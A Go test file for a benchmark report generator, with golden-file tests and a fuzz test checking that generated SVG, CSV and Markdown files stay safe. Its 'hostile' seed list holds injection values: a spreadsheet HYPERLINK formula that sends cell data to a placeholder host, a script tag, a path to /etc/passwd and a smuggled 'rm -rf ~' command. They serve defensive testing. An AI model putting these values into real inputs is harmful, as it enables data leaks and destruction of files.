package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/seed-9236c7ca/preface/bench/economics"
	"github.com/seed-9236c7ca/preface/bench/trace"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// sample is what was once found on the sample. It is a file, so that a change of
// the simulator is not one of the report.
func sample(t testing.TB) *Report {
	t.Helper()
	const name = "testdata/results.json"
	if *update {
		simulateSample(t, name)
	}
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	var list []economics.Result
	if err := json.Unmarshal(data, &list); err != nil {
		t.Fatalf("cannot read %s: %v", name, err)
	}
	return &Report{Command: "proxy bench economics -o report", Options: economics.Options{}.WithDefaults(), Traces: []Trace{{"sample", list[0]}}}
}

func simulateSample(t testing.TB, name string) {
	t.Helper()
	o := economics.Options{Trace: "sample", Providers: []string{"anthropic", "vllm"}, Lifetimes: []string{"5m", "none"}}
	res, err := economics.Run(context.Background(), func() (*trace.Reader, error) { return trace.Open(trace.Sample) }, o, nil)
	if err != nil {
		t.Fatal(err)
	}
	res.Goldens = []economics.Golden{
		{Name: "hit rate, 5m", Trace: "sample", Got: 0.89, Want: 0.89, Tolerance: 0.0005, OK: true, Published: 0.92, Source: "somebody", Difference: -0.03, Why: "theirs are other sessions"},
		{Name: "hit rate, 1h", Trace: "sample", Got: 0.94, Want: 0.90, Tolerance: 0.0005},
	}
	if err := os.MkdirAll(filepath.Dir(name), 0o777); err != nil {
		t.Fatal(err)
	}
	data, err := (&Report{Traces: []Trace{{"sample", res}}}).json()
	if err == nil {
		err = os.WriteFile(name, data, 0o666)
	}
	if err != nil {
		t.Fatal(err)
	}
}

// complete is a report with its page.
func complete(t testing.TB, r *Report) []File {
	t.Helper()
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	return append(files, File{Index, r.Markdown("")})
}

func TestInvariant1_GoldenReport(t *testing.T) {
	r := sample(t)
	files := complete(t, r)
	for i, f := range complete(t, r) {
		if !bytes.Equal(f.Data, files[i].Data) {
			t.Errorf("%s: other bytes the second time", f.Name)
		}
	}
	dir := filepath.Join("testdata", "sample")
	if *update {
		_ = os.RemoveAll(dir)
		if err := os.MkdirAll(dir, 0o777); err != nil {
			t.Fatal(err)
		}
	}
	var names []string
	for _, f := range files {
		if f.Name == "results.json" { // it is the input
			continue
		}
		names = append(names, f.Name)
		golden(t, filepath.Join(dir, f.Name), f.Data)
	}
	if entries, err := os.ReadDir(dir); err != nil || len(entries) != len(names) {
		t.Errorf("%d golden files (%v), the report has %q", len(entries), err, names)
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(name, got, 0o666); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(name)
	if err != nil {
		t.Fatalf("%v (-update writes it)", err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s is not what it was (-want +got):\n%s", name, d)
	}
}

// renamed is a report, cut short, whose trace has another name.
func renamed(r *Report, name string) *Report {
	cut := *r
	t := r.Traces[0]
	t.Name = name
	t.Result.Rows = slices.Clone(t.Result.Rows[:3])
	for i := range t.Result.Rows {
		t.Result.Rows[i].Trace = name
	}
	t.Result.BreakEvens = slices.DeleteFunc(slices.Clone(t.Result.BreakEvens), func(b economics.BreakEven) bool { return b.Name != "hit_rate" && b.Name != "length_by_change" })
	t.Result.Sensitivity = t.Result.Sensitivity[:2]
	t.Result.Goldens = slices.Clone(t.Result.Goldens)
	t.Result.Goldens[0].Trace = name
	cut.Traces = []Trace{t}
	return &cut
}

var hostile = []string{
	`=HYPERLINK("http://x.example/?"&A1,"open")`, "+1+1", "-2", "@SUM(1)", "\t=1", "\r\n=1",
	"a|b|c", "a`b``c", "`", "<script>alert(1)</script>", "]]>&amp;<![CDATA[", "![x](http://x.example/i.png)", "\x1b[31mred", "\u202eright", "../../etc/passwd", "a\nb\n# head", "\xff\xfe", "",
	strings.Repeat("long ", 60), strings.Repeat("x", 300), "名前 前 名", "&#0;", "'; rm -rf ~; '",
}

func FuzzInvariant3_NamesAreText(f *testing.F) {
	for _, name := range hostile {
		f.Add(name)
	}
	r := sample(f)
	f.Fuzz(func(t *testing.T, name string) { checkNames(t, renamed(r, name), name) })
}

func checkNames(t *testing.T, r *Report, name string) {
	t.Helper()
	files := complete(t, r)
	for _, f := range files {
		if f.Name != filepath.Base(f.Name) || strings.HasPrefix(f.Name, ".") || strings.ContainsAny(f.Name, "\\ <>|`\"'$&;") {
			t.Errorf("trace %q has the file %q", name, f.Name)
		}
		switch filepath.Ext(f.Name) {
		case ".svg":
			checkDrawing(t, f)
		case ".csv":
			checkTable(t, f)
		case ".md":
			checkPage(t, f, name)
		}
	}
}

// checkDrawing allows nothing in an SVG but drawing.
func checkDrawing(t *testing.T, f File) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(f.Data))
	known := []string{"svg", "title", "desc", "style", "rect", "text", "line", "path", "g", "circle"}
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s is no XML: %v", f.Name, err)
			return
		}
		if e, ok := tok.(xml.StartElement); ok && !slices.Contains(known, e.Name.Local) {
			t.Errorf("%s has an element %s", f.Name, e.Name.Local)
		}
	}
}

func checkTable(t *testing.T, f File) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", f.Name, err)
	}
	for _, row := range rows[1:] {
		for i, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: column %s begins a formula: %q", f.Name, rows[0][i], c)
			}
		}
	}
}

// checkPage finds the heading of the trace, and as many columns in each row of a
// table as in its head.
func checkPage(t *testing.T, f File, name string) {
	t.Helper()
	heads, columns := 0, 0
	for l := range strings.Lines(string(f.Data)) {
		if strings.HasPrefix(l, "#") {
			heads++
		}
		n := strings.Count(strings.ReplaceAll(l, `\|`, ""), "|")
		switch {
		case !strings.HasPrefix(l, "|"):
			columns = 0
		case columns == 0:
			columns = n
		case n != columns:
			t.Errorf("a row of %d columns under %d of the trace %q: %s", n, columns, name, l)
		}
	}
	if want := 9; heads != want {
		t.Errorf("%d headings for the trace %q, want %d", heads, name, want)
	}
	if strings.ContainsAny(string(f.Data), "\x1b\u202e\r") {
		t.Errorf("the page of the trace %q has control characters", name)
	}
}

func TestCodeSpan(t *testing.T) {
	f := func(in, want string) {
		t.Helper()
		if got := code(in); got != want {
			t.Errorf("code(%q) = %q, want %q", in, got, want)
		}
	}
	f("a_b", "`a_b`")
	f("a`b", "`` a`b ``")
	f("a|b", "`a\\|b`")
	f("", "`  `")
	f("a\nb", "`a b`")
}

func TestEmptyReport(t *testing.T) {
	for _, r := range []*Report{{Options: economics.Options{}.WithDefaults()}, {Traces: []Trace{{Name: "none"}}}} {
		if files := complete(t, r); len(files) != 4 {
			t.Errorf("an empty report has %d files", len(files))
		}
	}
}

// TestInvariant4_NumbersInWords changes a number and looks for it in the words.
func TestInvariant4_NumbersInWords(t *testing.T) {
	r := sample(t)
	for i := range r.Traces[0].Result.Rows {
		if row := &r.Traces[0].Result.Rows[i]; row.Strategy == economics.PerRequestBefore {
			row.CostVsBare, row.CostVsNone, row.Unnamed = 77*frozenOf(r, row).CostVsBare, 9.876, row.Requests/2
		}
	}
	page := string(r.Markdown(""))
	for _, want := range []string{"(per_request_before): 77.0 times a frozen opener's cost; in 50.0 % of the requests nobody can name the opener", "9.88 (×77.0)"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not say %q", want)
		}
	}
}

func frozenOf(r *Report, row *economics.Row) *economics.Row {
	for _, at := range r.Traces[0].tiers() {
		if at.is(row.Provider, row.Model, row.Lifetime) {
			return r.Traces[0].row(at, economics.Frozen)
		}
	}
	return nil
}
